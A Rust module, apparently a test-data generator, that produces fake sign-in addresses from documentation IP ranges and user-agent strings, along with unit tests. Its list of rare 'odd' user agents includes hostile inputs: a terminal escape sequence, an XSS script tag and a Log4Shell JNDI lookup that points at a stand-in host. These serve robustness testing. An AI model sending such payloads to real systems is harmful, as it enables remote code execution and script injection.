//! Where a sign-in comes from: addresses of the documentation ranges, and user agents.

use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};

use crate::seed::Seed;

/// The three blocks of RFC 5737.
const IPV4_BLOCKS: [[u8; 3]; 3] = [[192, 0, 2], [198, 51, 100], [203, 0, 113]];

/// What browsers and clients send.
const USUAL: [&str; 8] = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36 Edg/130.0.0.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 15; Pixel 9) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Mobile Safari/537.36",
    "curl/8.11.0",
    "python-requests/2.32.3",
];

/// What a client must survive: nothing at all, quoting, other scripts, terminal escapes, markup.
const ODD: [&str; 6] = [
    "",
    "Scanner \"quoted\" \\back\\slash/1.0",
    "Navigateur d’été (système; 日本語) 🛰/2",
    "\u{1b}[2J\u{1b}[31mowned\u{1b}[0m",
    "tab\there\nnext line\u{7f}",
    "<script>alert(1)</script>; ${jndi:ldap://192.0.2.1/a}",
];

/// An IPv4 (two of three) or IPv6 address that nobody owns.
pub(crate) fn address(seed: Seed) -> IpAddr {
    let [host, ..] = seed.at(1).bits().to_be_bytes();
    if seed.at(2).below(3) < 2 {
        let [a, b, c] = seed.at(3).pick(&IPV4_BLOCKS);
        return Ipv4Addr::new(a, b, c, host).into();
    }
    // 2001:db8::/32 of RFC 3849, the other 96 bits drawn.
    let low = u128::from(seed.at(4).bits()) | (u128::from(seed.at(5).bits() >> 32) << 64);
    Ipv6Addr::from_bits((0x2001_0db8_u128 << 96) | low).into()
}

/// A user agent; about one in twenty is an odd one.
pub(crate) fn user_agent(seed: Seed) -> &'static str {
    if seed.at(1).below(20) == 0 { seed.at(2).pick(&ODD) } else { seed.at(2).pick(&USUAL) }
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeSet;
    use std::net::IpAddr;

    use super::{IPV4_BLOCKS, ODD, USUAL, address, user_agent};
    use crate::seed::Seed;

    #[test]
    fn addresses_are_of_both_families_and_only_of_documentation_ranges() {
        let (mut four, mut six) = (0, 0);
        for n in 0..500 {
            match address(Seed::new(n)) {
                IpAddr::V4(ip) => {
                    four += 1;
                    let [a, b, c, _] = ip.octets();
                    assert!(IPV4_BLOCKS.contains(&[a, b, c]), "{ip}");
                }
                IpAddr::V6(ip) => {
                    six += 1;
                    assert_eq!(ip.segments()[..2], [0x2001, 0x0db8], "{ip}");
                }
            }
        }
        assert!(four > 200 && six > 100, "{four} and {six}");
    }

    #[test]
    fn every_user_agent_occurs_and_odd_ones_are_rare() {
        let drawn: Vec<_> = (0..2_000).map(|n| user_agent(Seed::new(n))).collect();
        let seen: BTreeSet<_> = drawn.iter().collect();
        assert_eq!(seen.len(), USUAL.len() + ODD.len());
        let odd = drawn.iter().filter(|agent| ODD.contains(agent)).count();
        assert!((50..200).contains(&odd), "{odd}");
    }
}
